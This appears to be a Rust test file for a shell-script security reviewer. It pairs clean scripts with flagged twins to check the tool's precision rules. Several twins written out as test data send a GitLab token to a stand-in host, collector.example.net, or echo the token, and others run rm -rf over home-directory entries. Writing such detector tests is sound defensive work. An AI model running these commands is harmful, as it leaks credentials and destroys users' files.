//! Rows of session 52's shell precision rules, each with its twin that stays flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{Language, Verdict};

use Verdict::{Clean, Dangerous, Suspicious};

/// A helper that prints a value and then returns (`printf '%s' "${!key}"; return`): what a
/// `$(helper)` gets is what it printed before the `return`, so the token it prints reaches the
/// request it is used in: to its own service's host, it is used; to a host nobody knows, it is
/// sent away (the `return` used to drop the value, and with it both).
#[test]
fn a_helper_prints_what_came_before_its_return() {
    let helper = "#!/usr/bin/env bash\nset -euo pipefail\n\
                  env_get() {\n  local key=\"$1\"\n  \
                  if [[ -n \"${!key:-}\" ]]; then printf '%s' \"${!key}\"; return; fi\n  \
                  return 1\n}\n\
                  token=\"$(env_get GITLAB_TOKEN)\" || exit 1\n";
    crate::verdict(
        Language::Shell,
        &format!(
            "{helper}curl -fsS -H \"PRIVATE-TOKEN: $token\" -o build/issue.json https://gitlab.com/api/v4/projects/1/issues/2\n"
        ),
        Clean,
    );
    // Twins: the same token sent to a host nobody knows; printed whole.
    let report = crate::verdict(
        Language::Shell,
        &format!(
            "{helper}curl -fsS -H \"PRIVATE-TOKEN: $token\" https://collector.example.net/in\n"
        ),
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-network");
    let report = crate::verdict(
        Language::Shell,
        &format!("{helper}echo \"token: $token\"\n"),
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-output");
    // An assignment or `:` after the print leaves it too.
    crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nget() {\n  printf '%s' \"$GITLAB_TOKEN\"\n  done=1\n  :\n}\n\
         t=\"$(get)\"\ncurl -fsS -d \"t=$t\" https://collector.example.net/in\n",
        Dangerous,
    );
}

/// `[[ "$line" == "$key="* ]] || continue` in a loop over the project's `.env`: past it the line
/// is that one setting, as inside `if [[ "$line" == "$key="* ]]; then`.
#[test]
fn a_dotenv_line_test_that_skips_other_lines_picks_the_setting() {
    let clean = "#!/usr/bin/env bash\nset -euo pipefail\n\
                 dotenv_get() {\n  local key=\"$1\" line\n  \
                 while IFS= read -r line; do\n    [[ \"$line\" == \"$key=\"* ]] || continue\n    \
                 printf '%s' \"${line#*=}\"\n    return 0\n  done < .env\n  return 1\n}\n\
                 token=\"$(dotenv_get GITLAB_TOKEN)\"\n\
                 curl -fsS -H \"PRIVATE-TOKEN: $token\" -o build/me.json https://gitlab.com/api/v4/user\n";
    crate::verdict(Language::Shell, clean, Clean);
    // Twins: no test, so any line of the file (the whole file's secrets) goes; the test's
    // line sent to a host nobody knows.
    let report = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\n\
         first_line() {\n  local line\n  while IFS= read -r line; do\n    \
         printf '%s' \"${line#*=}\"\n    return 0\n  done < .env\n}\n\
         token=\"$(first_line)\"\n\
         curl -fsS -H \"PRIVATE-TOKEN: $token\" https://gitlab.com/api/v4/user\n",
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-network");
    let report = crate::verdict(
        Language::Shell,
        &clean.replace(
            "https://gitlab.com/api/v4/user",
            "https://collector.example.net/in",
        ),
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-network");
}

/// `[[ "$d" == "$REPORT_ROOT"/20* ]] || continue` before `rm -rf -- "$d"`: a pattern of
/// entries whose names start alike under a directory holds the path under it, as
/// `"$REPORT_ROOT"/*` does; and a slice of an array (`"${dirs[@]:0:excess}"`) holds elements
/// of the array.
#[test]
fn named_entry_patterns_and_array_slices_keep_paths_under_their_directory() {
    let clean = [
        "#!/usr/bin/env bash\nset -euo pipefail\nREPORT_ROOT=\"$(pwd)/reports/mutation\"\n\
         for d in \"$REPORT_ROOT\"/*; do\n  [[ \"$d\" == \"$REPORT_ROOT\"/20* ]] || continue\n  \
         rm -rf -- \"$d\"\ndone\n",
        "#!/usr/bin/env bash\nset -euo pipefail\nREPORT_ROOT=\"$(pwd)/reports/mutation\"\nKEEP=5\n\
         mapfile -t dirs < <(find \"$REPORT_ROOT\" -mindepth 1 -maxdepth 1 -type d | sort)\n\
         excess=$(( ${#dirs[@]} - KEEP ))\n\
         for d in \"${dirs[@]:0:excess}\"; do\n  rm -rf -- \"$d\"\ndone\n",
    ];
    for code in clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    // Twins: a pattern of dot names (`.*` matches `..`); a directory known only at run time;
    // a slice of an array of the home's entries; a default (`:-`) is no slice.
    let flagged = [
        (
            "#!/usr/bin/env bash\nREPORT_ROOT=\"$(pwd)/reports\"\nd=\"$1\"\n\
             [[ \"$d\" == \"$REPORT_ROOT\"/.* ]] || exit 1\nrm -rf -- \"$d\"\n",
            Suspicious,
        ),
        (
            "#!/usr/bin/env bash\nREPORT_ROOT=\"$2\"\nd=\"$1\"\n\
             [[ \"$d\" == \"$REPORT_ROOT\"/20* ]] || exit 1\nrm -rf -- \"$d\"\n",
            Suspicious,
        ),
        (
            "#!/usr/bin/env bash\ndirs=(\"$HOME\"/*)\nfor d in \"${dirs[@]:0:3}\"; do\n  rm -rf -- \"$d\"\ndone\n",
            Dangerous,
        ),
        (
            "#!/usr/bin/env bash\nfor d in \"${dirs[@]:-$HOME}\"; do\n  rm -rf -- \"$d\"\ndone\n",
            Dangerous,
        ),
    ];
    for (code, want) in flagged {
        crate::verdict(Language::Shell, code, want);
    }
}
